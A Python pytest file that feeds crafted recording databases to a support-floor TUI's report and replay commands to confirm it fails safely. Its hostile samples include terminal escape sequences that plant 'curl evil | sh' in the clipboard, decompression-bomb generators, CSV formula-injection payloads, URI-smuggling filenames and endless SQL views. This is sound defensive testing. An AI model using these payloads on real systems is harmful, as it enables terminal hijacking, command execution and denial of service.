"""A recording is a file from anywhere: every door through which one, or its name, reaches the
user (``report``, ``replay``, any read-only open) is tried with a hostile one.

A hostile recording may open another file, inflate a snapshot to gigabytes, carry escape
sequences in any text, put any type in any column, hide an endless query behind a view, or
make a report that runs formulas in a spreadsheet; a kill must still give the terminal back.
Each gets a clear error or works, never a traceback, a hang, a write beside the file, or an
escape sequence on the user's terminal.
"""

from __future__ import annotations

import base64
import fcntl
import hashlib
import json
import os
import pty
import re
import select
import shutil
import signal
import sqlite3
import stat
import struct
import subprocess
import sys
import termios
import time
import zlib
from pathlib import Path

import pytest
import zstandard

from supervisor_tui.app import FloorSettings, SupervisorApp
from supervisor_tui.cli import main
from supervisor_tui.core.projection import FloorState
from supervisor_tui.core.replay import Recording, ReplayPlayer, record_snapshot
from supervisor_tui.core.snapshot import MAX_SNAPSHOT_BYTES, SnapshotError, inflate, thaw
from supervisor_tui.model import (
    AgentState,
    AgentStateChanged,
    AgentUpserted,
    Channel,
    HealthState,
    NewEvent,
    Payload,
    QueueUpserted,
    SourceHealth,
)
from supervisor_tui.store import SQLiteStore, StoreError
from supervisor_tui.widgets import FreshnessBar

from .conftest import EPOCH, record_floor, rules, targets
from .test_app import wait_for
from .test_untrusted_text import CONTROL_CHAR, RAW_CONTROL, all_segments, screen_lines

# What must never reach a terminal from a file: ESC (every escape sequence, OSC 0 and 52
# included), BEL (ends an OSC), and the C1 controls (CSI and OSC as one character).
TERMINAL_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
TITLE = "\x1b]0;pwned\x07"  # sets the terminal's title
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil | sh").decode() + "\x07"  # writes it
EVIL_SOURCE = f"zendesk{TITLE}{CLIPBOARD}\x9b31m"


@pytest.fixture(scope="module")
def base_recording(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A 90-minute floor with escalations and two recorded snapshots (as the collector keeps)."""
    path = tmp_path_factory.mktemp("rec") / "shift.db"
    store = record_floor(path, until_s=1.5 * 3600)
    state = FloorState(targets())
    events = store.read_from(0, 1_000_000)
    half = len(events) // 2
    state.apply_all(events[:half])
    record_snapshot(store, state, events[half - 1].received_at)
    state.apply_all(events[half:])
    record_snapshot(store, state, events[-1].received_at)
    store.close()
    return path


def copy_of(base: Path, dest: Path) -> Path:
    shutil.copyfile(base, dest)
    dest.chmod(0o600)
    return dest


def listing(directory: Path) -> dict[str, str]:
    """Every file in the directory with a digest of its bytes."""
    return {
        p.name: hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(directory.iterdir())
        if p.is_file()
    }


def folded(path: Path) -> dict[str, object]:
    """The floor at the recording's end, folded from every event (no snapshot)."""
    store = SQLiteStore(path, read_only=True)
    state = FloorState(targets())
    state.apply_all(store.read_from(0, 1_000_000))
    store.close()
    return state.snapshot()


def run_cli(
    *args: str, cwd: Path | None = None, timeout: float = 60
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "supervisor_tui.cli", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=cwd,
    )


def sql(path: Path, *statements: str, params: tuple[object, ...] = ()) -> None:
    """Change a recording behind the store's back, as an attacker would."""
    conn = sqlite3.connect(path, isolation_level=None)
    conn.execute("PRAGMA journal_mode=DELETE")  # no -wal left beside the crafted file
    for statement in statements:
        conn.execute(statement, params if "?" in statement else ())
    conn.close()


def add_events(path: Path, at: float, payloads: list[Payload], source: str = "simulator") -> None:
    """Append events to a copy of the recording (keys of their own), all at instant ``at``."""
    store = SQLiteStore(path)
    store.append(
        [
            NewEvent(source=source, key=f"added-{i}", occurred_at=at, received_at=at, payload=p)
            for i, p in enumerate(payloads)
        ]
    )
    store.close()


# -- 1. a name that is not a file: URI --------------------------------------------------------


@pytest.mark.parametrize("name", ["night#1.db", "night?mode=rwc.db", "n%69ght.db", "night 1.db"])
def test_a_recording_name_opens_that_file_read_only_and_nothing_else(
    base_recording: Path,
    tmp_path: Path,
    name: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Before: the name went into the SQLite URI unescaped; 'night#1.db' opened 'night'
    read-write (creating it empty, with -wal and -shm), 'night?mode=rwc.db' dropped mode=ro."""
    copy_of(base_recording, tmp_path / name)
    monkeypatch.chdir(tmp_path)
    before = listing(tmp_path)
    assert main(["report", name, "--format", "json"]) == 0, capsys.readouterr().err
    data = json.loads(capsys.readouterr().out)
    assert data["sources"] == [name] and data["periods"], "the figures of that very file"
    assert listing(tmp_path) == before, "no file created, changed, or left beside it"
    recording = Recording(SQLiteStore(name, read_only=True), targets())  # the replay path
    assert recording.last_seq > 0
    recording.store.close()
    assert listing(tmp_path) == before


def test_report_and_replay_leave_no_wal_or_shm_beside_a_recording(
    base_recording: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before: even a plain name, opened mode=ro, left an empty -wal and a 32 KB -shm."""
    path = copy_of(base_recording, tmp_path / "shift.db")
    before = listing(tmp_path)
    assert main(["report", str(path), "--format", "md"]) == 0
    capsys.readouterr()
    player = ReplayPlayer(Recording(SQLiteStore(path, read_only=True), targets()))
    player.seek(player.recording.end)
    player.recording.store.close()
    assert listing(tmp_path) == before


def test_a_store_being_written_is_read_through_its_wal(tmp_path: Path) -> None:
    """A -wal beside the file holds events not yet in it (a live floor, or a crash): those are
    read too, and nothing new is made beside the file."""
    path = tmp_path / "live.db"
    writer = record_floor(path, until_s=600)  # still open: its events may sit in the -wal
    assert (tmp_path / "live.db-wal").exists()
    names = sorted(p.name for p in tmp_path.iterdir())
    reader = SQLiteStore(path, read_only=True)
    assert reader.last_seq() == writer.last_seq()
    reader.close()
    assert sorted(p.name for p in tmp_path.iterdir()) == names
    writer.close()


# -- 2. a snapshot that inflates to gigabytes -------------------------------------------------


def zlib_bomb(size: int) -> bytes:
    """A zlib stream of ``size`` spaces in about size/1000 bytes, made without inflating it:
    one full-flushed block of 64 MB repeated (a full flush makes each block stand alone)."""
    chunk = 64 * 1024 * 1024
    head = zlib.compressobj(9)
    first = head.compress(b" " * chunk) + head.flush(zlib.Z_FULL_FLUSH)
    again = zlib.compressobj(9)
    block = again.compress(b" " * chunk) + again.flush(zlib.Z_FULL_FLUSH)
    block = block[2:]  # the same deflate block, without a second zlib header
    return first + block * (size // chunk - 1) + head.flush(zlib.Z_FINISH)


def zstd_bomb(size: int, *, says_its_size: bool) -> bytes:
    """A Zstandard frame of ``size`` spaces, made 64 MB at a time; with its size in its
    header (as this program writes them) or without."""
    chunk = b" " * (64 * 1024 * 1024)
    writer = zstandard.ZstdCompressor(level=1, write_content_size=says_its_size)
    packer = writer.compressobj(size=size if says_its_size else -1)
    parts = [packer.compress(chunk) for _ in range(size // len(chunk))]
    return b"".join([*parts, packer.flush()])


def test_a_snapshot_bomb_is_refused_with_a_clear_error() -> None:
    with pytest.raises(SnapshotError, match="inflates past 256 MB"):
        thaw(zlib_bomb(MAX_SNAPSHOT_BYTES + 64 * 1024 * 1024), targets())


@pytest.mark.parametrize("says_its_size", [True, False])
def test_a_zstandard_snapshot_bomb_is_refused_before_it_is_inflated(says_its_size: bool) -> None:
    """A frame that says it holds more than the cap is refused on its word; one that does
    not say (this program always does) is refused without being read."""
    bomb = zstd_bomb(MAX_SNAPSHOT_BYTES + 64 * 1024 * 1024, says_its_size=says_its_size)
    assert len(bomb) < 1024 * 1024
    expected = "inflates past 256 MB" if says_its_size else "its size is not in its header"
    with pytest.raises(SnapshotError, match=expected):
        thaw(bomb, targets())


def content_size_field(frame: bytes) -> tuple[int, int, int]:
    """Where a Zstandard frame's header says its content size: (offset, width, what the
    field is less than the size), as RFC 8878 3.1.1.1 lays the header out."""
    descriptor = frame[4]
    single_segment = descriptor >> 5 & 1
    dictionary_id = (0, 1, 2, 4)[descriptor & 3]
    width = (single_segment, 2, 4, 8)[descriptor >> 6]
    at = 5 + (0 if single_segment else 1) + dictionary_id
    return at, width, 256 if width == 2 else 0


@pytest.mark.parametrize(
    "damage",
    ["cut short", "a wrong size in the header", "the magic alone", "junk after the magic"],
)
def test_a_damaged_zstandard_snapshot_is_one_clear_error(base_recording: Path, damage: str) -> None:
    store = SQLiteStore(base_recording, read_only=True)
    loaded = store.load_snapshot(store.snapshot_index()[-1])
    store.close()
    assert loaded is not None and loaded[1][:4] == b"\x28\xb5\x2f\xfd"  # written as zstd
    data = loaded[1]
    raw = inflate(data)
    if damage == "cut short":
        data = data[: len(data) // 2]
    elif damage == "a wrong size in the header":
        # the header's content size (little-endian, at its end) says 16 more than it holds
        at, width, less = content_size_field(data)
        assert int.from_bytes(data[at : at + width], "little") + less == len(raw)
        data = data[:at] + (len(raw) + 16 - less).to_bytes(width, "little") + data[at + width :]
        assert zstandard.frame_content_size(data) == len(raw) + 16
    elif damage == "the magic alone":
        data = data[:4]
    else:
        data = data[:4] + b"\x00" * 64
    with pytest.raises(SnapshotError, match="snapshot does not load"):
        thaw(data, targets())


def test_a_zlib_snapshot_of_an_older_recording_still_loads(base_recording: Path) -> None:
    """Recordings made before snapshots were Zstandard hold zlib ones: the same JSON."""
    store = SQLiteStore(base_recording, read_only=True)
    seq = store.snapshot_index()[-1]
    loaded = store.load_snapshot(seq)
    store.close()
    assert loaded is not None
    written = thaw(loaded[1], targets(), loaded[0])
    older = thaw(zlib.compress(inflate(loaded[1]), 1), targets(), loaded[0])
    assert older.seq == seq and older.snapshot() == written.snapshot()


def test_a_snapshot_bomb_under_a_memory_limit_is_refused_and_the_events_are_folded(
    base_recording: Path, tmp_path: Path
) -> None:
    """Before: a 1 MB blob inflating to gigabytes took seconds and gigabytes of memory, or
    under a memory limit a MemoryError traceback. Now it is refused at 256 MB, and replay
    folds the events instead: the floor is the one folded from every event, nothing lost."""
    path = copy_of(base_recording, tmp_path / "bomb.db")
    bomb = zlib_bomb(2 * 1024 * 1024 * 1024)
    assert len(bomb) < 4 * 1024 * 1024
    sql(path, "UPDATE snapshots SET data = ?", params=(bomb,))
    script = (
        "import json, resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_AS, (1536 * 1024 * 1024,) * 2)\n"
        "from supervisor_tui.core.replay import Recording\n"
        "from supervisor_tui.store import SQLiteStore\n"
        "from tests.conftest import targets\n"
        "recording = Recording(SQLiteStore(sys.argv[1], read_only=True), targets())\n"
        "state = recording.state_at_seq(recording.last_seq)\n"
        "print(json.dumps(state.snapshot(), sort_keys=True, default=str))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(path)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=Path(__file__).parent.parent,
    )
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr[-2000:]
    expected = json.dumps(folded(path), sort_keys=True, default=str)
    assert done.stdout.strip() == expected


# -- 3. escape sequences in a recording's text and in its name ---------------------------------


def hostile_source_recording(base: Path, dest: Path) -> Path:
    """A recording whose source name (the events' `source` column, never cleaned before) sets
    the terminal's title and writes its clipboard, with a queue and an agent of that source."""
    path = copy_of(base, dest)
    at = EPOCH + 1.5 * 3600
    add_events(
        path,
        at,
        [
            SourceHealth(state=HealthState.DEGRADED, reason="slow", at=at),
            QueueUpserted(queue_id="evil", name="Evil", channel=Channel.CHAT),
            AgentUpserted(agent_id="evil-1", name="Eve", queue_ids=("evil",)),
            AgentStateChanged(agent_id="evil-1", state=AgentState.AVAILABLE, since=at),
        ],
        source=EVIL_SOURCE,
    )
    return path


async def test_replaying_escape_sequences_in_a_source_name_sends_none_to_the_terminal(
    base_recording: Path, tmp_path: Path
) -> None:
    """Before: the source went to the bottom bar as recorded: ESC ] 0 set the terminal's title
    and ESC ] 52 wrote the clipboard."""
    path = hostile_source_recording(base_recording, tmp_path / "evil.db")
    recording = Recording(SQLiteStore(path, read_only=True), targets())
    player = ReplayPlayer(recording)
    player.seek(recording.end)
    settings = FloorSettings(floor_name="Replay", operator="t", targets=targets(), rules=rules())
    app = SupervisorApp(recording.store, settings, clock=player.clock, player=player)
    async with app.run_test(size=(200, 50)) as pilot:
        bar = app.query_one(FreshnessBar)
        await wait_for(pilot, lambda: "pwned" in str(bar.render()), "the source on the bar")
        leaked = sorted(
            {repr(s.text) for s in all_segments(screen_lines(app)) if RAW_CONTROL.search(s.text)}
        )
        shown = str(bar.render())
        svg = app.export_screenshot()
    recording.store.close()
    assert leaked == []
    assert not TERMINAL_CONTROL.search(shown), repr(shown)
    assert not CONTROL_CHAR.search(svg) and "\x9b" not in svg


@pytest.mark.parametrize("fmt", ["term", "md", "csv", "json", "html"])
def test_a_recording_named_with_escape_sequences_reports_none_of_them(
    base_recording: Path, tmp_path: Path, fmt: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """The name of the file is text from outside too: it is in every report's sources."""
    path = hostile_source_recording(base_recording, tmp_path / f"night{TITLE}{CLIPBOARD}.db")
    assert main(["report", str(path), "--format", fmt]) == 0
    out, err = capsys.readouterr()
    assert fmt in ("term", "csv") or "pwned" in out  # the name is there, made harmless
    assert not TERMINAL_CONTROL.search(out.replace("\n", "").replace("\t", "")), fmt
    assert not TERMINAL_CONTROL.search(err)


def test_an_error_about_a_file_named_with_escapes_prints_none(tmp_path: Path) -> None:
    junk = tmp_path / f"junk{TITLE}.db"
    junk.write_bytes(b"not a recording" * 100)
    junk.chmod(0o600)
    for command in ("report", "replay"):
        done = run_cli(command, str(junk))
        assert done.returncode == 2 and "pwned" in done.stderr
        assert not TERMINAL_CONTROL.search(done.stderr.rstrip("\n")), repr(done.stderr)


# -- 4. any type in any column -----------------------------------------------------------------

RETYPED_EVENTS = (
    "CREATE TABLE events (seq TEXT, source TEXT, key TEXT, kind TEXT, occurred_at REAL, "
    "received_at REAL, payload TEXT)"
)

LOOSE_EVENTS = [  # the events table with no NOT NULL and no trigger: any value goes in
    "ALTER TABLE events RENAME TO old_events",
    "CREATE TABLE events (seq INTEGER PRIMARY KEY, source, key, kind, occurred_at, "
    "received_at, payload)",
    "INSERT INTO events SELECT seq, source, key, kind, occurred_at, received_at, payload "
    "FROM old_events",
    "DROP TABLE old_events",
]

CRAFTED_COLUMNS = {
    "seq as text": [
        "ALTER TABLE events RENAME TO old_events",
        RETYPED_EVENTS,
        "INSERT INTO events SELECT 'x' || seq, source, key, kind, occurred_at, received_at, "
        "payload FROM old_events",
        "DROP TABLE old_events",
    ],
    "received_at NULL": [
        *LOOSE_EVENTS,
        "UPDATE events SET received_at = NULL WHERE seq = 5",
    ],
    "occurred_at text": [
        "DROP TRIGGER events_append_only_update",
        "UPDATE events SET occurred_at = 'noon' WHERE seq = 7",
    ],
    "received_at infinite": [
        "DROP TRIGGER events_append_only_update",
        "UPDATE events SET received_at = 9e999 WHERE seq = 9",
    ],
    "kind NULL": [
        *LOOSE_EVENTS,
        "UPDATE events SET kind = NULL WHERE seq = 3",
    ],
    "source an integer": [*LOOSE_EVENTS, "UPDATE events SET source = 42 WHERE seq = 3"],
    "source a blob": [
        "DROP TRIGGER events_append_only_update",
        "UPDATE events SET source = x'1b5d303b' WHERE seq = 3",
    ],
    "payload a number": [
        "DROP TRIGGER events_append_only_update",
        "UPDATE events SET payload = 1.5 WHERE seq = 3",
    ],
    "payload junk blob": [
        "DROP TRIGGER events_append_only_update",
        "UPDATE events SET payload = x'00ff1b5d30' WHERE seq = 3",
    ],
    "a payload time of 1e300": [
        "DROP TRIGGER events_append_only_update",
        "UPDATE events SET payload = json_set(payload, '$.since', 1e300) "
        "WHERE seq = (SELECT MIN(seq) FROM events WHERE kind = 'agent.state')",
    ],
    "schema version text": ["UPDATE meta SET value = 'one' WHERE key = 'schema_version'"],
}
# Snapshots only save time: a bad one is left out and the events are folded instead.
CRAFTED_SNAPSHOTS = {
    "snapshot format text": ["UPDATE snapshots SET format = 'one'"],
    "snapshot data text": ["UPDATE snapshots SET data = 'not a blob'"],
    "snapshot seq text": [
        "ALTER TABLE snapshots RENAME TO old",
        "CREATE TABLE snapshots (seq TEXT, at REAL, format INTEGER, data BLOB)",
        "INSERT INTO snapshots SELECT 'x', at, format, data FROM old",
    ],
    "snapshot junk": ["UPDATE snapshots SET data = x'789c00ff00ff'"],
    "snapshot of escapes": [],  # filled in below
}


@pytest.mark.parametrize("case", sorted(CRAFTED_COLUMNS))
def test_a_column_of_the_wrong_type_is_one_clear_line_naming_the_file(
    base_recording: Path, tmp_path: Path, case: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before: a traceback (TypeError, ValueError) for most of these."""
    path = copy_of(base_recording, tmp_path / "crafted.db")
    sql(path, *CRAFTED_COLUMNS[case])
    assert main(["report", str(path), "--format", "md"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "crafted.db" in err[0], err
    with pytest.raises(StoreError, match=r"crafted\.db"):
        ReplayPlayer(Recording(SQLiteStore(path, read_only=True), targets()))


@pytest.mark.parametrize("case", sorted(CRAFTED_SNAPSHOTS))
def test_a_bad_snapshot_is_left_out_and_replay_loses_nothing(
    base_recording: Path, tmp_path: Path, case: str
) -> None:
    path = copy_of(base_recording, tmp_path / "crafted.db")
    if case == "snapshot of escapes":
        # a snapshot that loads, whose agent names carry an escape: they are cleaned as events'
        store = SQLiteStore(path, read_only=True)
        seq = store.snapshot_index()[-1]
        loaded = store.load_snapshot(seq)
        store.close()
        assert loaded is not None
        raw = inflate(loaded[1]).replace(b'"name":"', b'"name":"\\u001b]0;pwned\\u0007')
        data = zstandard.ZstdCompressor(level=1).compress(raw)
        sql(path, "UPDATE snapshots SET data = ?", params=(data,))
    else:
        sql(path, *CRAFTED_SNAPSHOTS[case])
    recording = Recording(SQLiteStore(path, read_only=True), targets())
    state = recording.state_at_seq(recording.last_seq)
    names = [agent.name for agent in state.agents.values()]
    recording.store.close()
    assert not any(TERMINAL_CONTROL.search(name) for name in names), names
    if case != "snapshot of escapes":
        assert state.snapshot() == folded(path)


def test_a_recording_whose_times_leap_centuries_ahead_is_refused_not_folded_for_ever(
    base_recording: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by the fuzz: the report walks every half hour between two events, so one event
    dated 2900 made it fill gigabytes. The span a report walks is bounded; the part asked
    for with --to is reported as before."""
    path = copy_of(base_recording, tmp_path / "leap.db")
    far = 29_000_000_000.0  # in the year 2889
    add_events(path, far, [SourceHealth(state=HealthState.CONNECTED, at=far)])
    assert main(["report", str(path), "--format", "json"]) == 2
    assert "span more than 400 days" in capsys.readouterr().err
    assert main(["report", str(path), "--format", "json", "--to", "2026-10-01"]) == 0
    assert json.loads(capsys.readouterr().out)["periods"]


# -- 5. a view, and queries that never end -----------------------------------------------------

ENDLESS_VIEW = (
    "CREATE VIEW events AS WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) "
    "SELECT n AS seq, 'zendesk' AS source, 'k' || n AS key, 'source.health' AS kind, "
    "0.0 AS occurred_at, 0.0 AS received_at, '{}' AS payload FROM r WHERE n < 0"
)


@pytest.mark.parametrize("command", ["report", "replay"])
def test_a_recursive_view_as_events_is_refused_at_once(
    base_recording: Path, tmp_path: Path, command: str
) -> None:
    """Before: `report` and `replay` ran the endless view for ever and ignored Ctrl-C."""
    path = copy_of(base_recording, tmp_path / "view.db")
    sql(path, "DROP TABLE events", ENDLESS_VIEW)
    before = listing(tmp_path)
    try:
        done = run_cli(command, str(path), timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail(f"{command} still running after 60 s on a recursive view")
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "holds a view: 'events'" in done.stderr and "view.db" in done.stderr
    assert listing(tmp_path) == before


@pytest.mark.parametrize(
    ("statements", "expected"),
    [
        (["CREATE VIEW extra AS SELECT 1"], "holds a view: 'extra'"),
        (
            ["DROP TABLE meta", "CREATE VIRTUAL TABLE meta USING fts5(key, value)"],
            "'meta' is not a plain table",
        ),
        (
            [
                "DROP TABLE snapshots",
                "CREATE TABLE snapshots (seq INTEGER, at REAL, format INTEGER, "
                "data BLOB AS (zeroblob(1000000000)))",
            ],
            "column 'data' is computed",
        ),
        (["ALTER TABLE events DROP COLUMN payload"], "table 'events': no column 'payload'"),
        (["DROP TABLE meta"], "no table 'meta'"),
    ],
)
def test_schema_objects_that_are_not_the_tables_we_wrote_are_refused(
    base_recording: Path, tmp_path: Path, statements: list[str], expected: str
) -> None:
    path = copy_of(base_recording, tmp_path / "odd.db")
    try:
        sql(
            path,
            "DROP TRIGGER events_append_only_update",
            "DROP TRIGGER events_append_only_delete",
            *statements,
        )
    except sqlite3.OperationalError as exc:  # this SQLite lacks the module
        pytest.skip(str(exc))
    with pytest.raises(StoreError, match=re.escape(expected)):
        SQLiteStore(path, read_only=True)


def test_a_query_over_its_deadline_is_stopped_with_a_clear_error(
    base_recording: Path, tmp_path: Path
) -> None:
    """The deadline holds on real tables too. Without its index, looking for a kind of event
    the recording lacks scans every event in one step; with a deadline of 0 s that step is
    over it."""
    path = copy_of(base_recording, tmp_path / "slow.db")
    sql(path, "DROP INDEX events_kind")
    store = SQLiteStore(path, read_only=True, query_deadline_s=0)
    with pytest.raises(StoreError, match=r"slow\.db: stopped reading \(a query took longer"):
        store.events_of_kind("escalation.snoozed")
    store.close()
    store = SQLiteStore(path, read_only=True)  # the same file with the usual deadline
    assert store.events_of_kind("escalation.snoozed") == []
    store.close()


def test_ctrl_c_stops_a_running_query_on_a_recording(base_recording: Path, tmp_path: Path) -> None:
    """Before: SQLite held the main thread and Python never ran its SIGINT handler until the
    query ended (an endless one: never)."""
    path = copy_of(base_recording, tmp_path / "shift.db")
    script = (
        "import sys\n"
        "from supervisor_tui.store import SQLiteStore, StoreError\n"
        "store = SQLiteStore(sys.argv[1], read_only=True)\n"
        "print('reading', flush=True)\n"
        "try:\n"
        "    store._read('WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) "
        "SELECT count(*) FROM r')\n"
        "except StoreError as exc:\n"
        "    print(exc, flush=True)\n"
        "    sys.exit(2)\n"
    )
    proc = subprocess.Popen(
        [sys.executable, "-c", script, str(path)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert proc.stdout is not None
        assert proc.stdout.readline().strip() == "reading"
        time.sleep(0.5)  # into the query (not a timing assertion: any moment would do)
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.communicate()
        pytest.fail("Ctrl-C did not stop the query within 30 s")
    assert proc.returncode == 2, err
    assert "shift.db: stopped reading (interrupted)" in out and "Traceback" not in err


# -- 6. reports: formulas, a content security policy, private files ----------------------------

FORMULAS = {
    "q-eq": '=HYPERLINK("http://evil","x")',
    "q-plus": "+1+cmd|' /C calc'!A0",
    "q-minus": "-2+3",
    "q-at": "@SUM(A1:A9)",
}


def formula_recording(base: Path, dest: Path) -> Path:
    path = copy_of(base, dest)
    add_events(
        path,
        EPOCH + 3600,
        [
            QueueUpserted(queue_id=qid, name=name, channel=Channel.VOICE)
            for qid, name in FORMULAS.items()
        ],
    )
    return path


def test_csv_cells_from_names_never_start_a_formula(
    base_recording: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import csv
    import io

    from supervisor_tui.report.render import csv_text

    path = formula_recording(base_recording, tmp_path / "f.db")
    assert main(["report", str(path), "--format", "csv"]) == 0
    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out)) for c in row]
    for name in FORMULAS.values():
        assert "'" + name in cells, name
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert not any(c.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", c) for c in cells)
    assert [csv_text(v) for v in ("-5", "-0.25", "+3", "12", "x-1")] == [
        "-5",
        "-0.25",
        "+3",
        "12",
        "x-1",
    ]  # numbers stay numbers


def test_the_html_report_has_a_strict_content_security_policy(
    base_recording: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = formula_recording(base_recording, tmp_path / "f.db")
    assert main(["report", str(path), "--format", "html"]) == 0
    page = capsys.readouterr().out
    meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page)
    assert meta is not None
    head = page[: page.index("</head>")]
    assert head.index("Content-Security-Policy") < head.index("<style>")
    policy = dict(part.strip().split(" ", 1) for part in meta.group(1).split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["base-uri"] == "'none'" and policy["form-action"] == "'none'"
    styles = re.findall(r"<style>(.*?)</style>", page, re.S)
    digest = base64.b64encode(hashlib.sha256(styles[0].encode()).digest()).decode()
    assert len(styles) == 1 and policy["style-src"] == f"'sha256-{digest}'"
    assert "<script" not in page and " style=" not in page and "unsafe" not in page


@pytest.mark.parametrize("fmt", ["md", "csv", "json", "html"])
def test_report_files_are_private_from_their_first_byte(
    base_recording: Path, tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before: written through write_text with the umask (0644): every agent's figures readable
    by anyone on the machine."""
    created: list[int] = []
    real_open = os.open

    def watching_open(path: str, flags: int, mode: int = 0o777, *a: object, **k: object) -> int:
        if flags & os.O_CREAT:
            created.append(mode)
        return real_open(path, flags, mode, *a, **k)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "open", watching_open)
    old = os.umask(0o022)
    try:
        out = tmp_path / f"r.{fmt}"
        assert main(["report", str(base_recording), "--format", fmt, "--out", str(out)]) == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert created and all(mode == 0o600 for mode in created), [oct(m) for m in created]
    assert [p.name for p in tmp_path.iterdir()] == [out.name]


# -- 7. a kill during replay gives the terminal back -------------------------------------------


def read_until(fd: int, wanted: bytes, seconds: float, seen: bytearray) -> bool:
    """Read the pty into ``seen`` until ``wanted`` is in it, EOF, or ``seconds`` pass."""
    end = time.monotonic() + seconds
    while wanted not in seen and time.monotonic() < end:
        ready, _, _ = select.select([fd], [], [], 0.2)
        if ready:
            try:
                chunk = os.read(fd, 65536)
            except OSError:  # EIO: the child closed the terminal
                return wanted in seen
            if not chunk:
                break
            seen += chunk
    return wanted in seen


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP], ids=lambda s: s.name)
def test_a_signal_during_replay_leaves_the_alternate_screen_and_turns_the_mouse_off(
    base_recording: Path, tmp_path: Path, sig: signal.Signals
) -> None:
    """Before: SIGTERM killed the process with the terminal in the alternate screen and mouse
    reporting on (every click then typed escape sequences into the shell)."""
    path = copy_of(base_recording, tmp_path / "shift.db")
    leader, follower = pty.openpty()
    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 200, 0, 0))
    env = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "200", "LINES": "50"}
    env.pop("TEXTUAL", None)
    proc = subprocess.Popen(
        [sys.executable, "-m", "supervisor_tui.cli", "replay", str(path)],
        stdin=follower,
        stdout=follower,
        stderr=follower,
        env=env,
        start_new_session=True,
    )
    os.close(follower)
    seen = bytearray()
    try:
        assert read_until(leader, b"\x1b[?1049h", 60, seen), "the app never started"
        assert read_until(leader, b"REPLAY", 60, seen), "the board never drew"
        mark = len(seen)
        proc.send_signal(sig)
        read_until(leader, b"\x1b[?1049l", 30, seen)
        read_until(leader, b"\x00never", 2, seen)  # the rest of what it writes on the way out
        code = proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        os.close(leader)
    after = bytes(seen[mark:])
    assert b"\x1b[?1049l" in after, after[-400:]  # the main screen is back
    assert b"\x1b[?1000l" in after and b"\x1b[?1006l" in after  # mouse reporting off
    assert code == 128 + sig
    assert b"Traceback" not in seen


@pytest.mark.parametrize(
    ("case", "said"),
    [
        ("received_at NULL", r"event 5: its received_at is NULL, not a time"),
        ("received_at infinite", r"event 9: its received_at is a number, not a time"),
        ("seq as text", r"an event's seq is text, not an integer"),
    ],
)
def test_replay_names_the_event_whose_time_or_seq_is_not_one(
    base_recording: Path, tmp_path: Path, case: str, said: str
) -> None:
    """The timeline is checked by SQLite as it is read; the one row that fails is then
    read again to say what it holds."""
    path = copy_of(base_recording, tmp_path / "crafted.db")
    sql(path, *CRAFTED_COLUMNS[case])
    with pytest.raises(StoreError, match=said):
        Recording(SQLiteStore(path, read_only=True), targets())
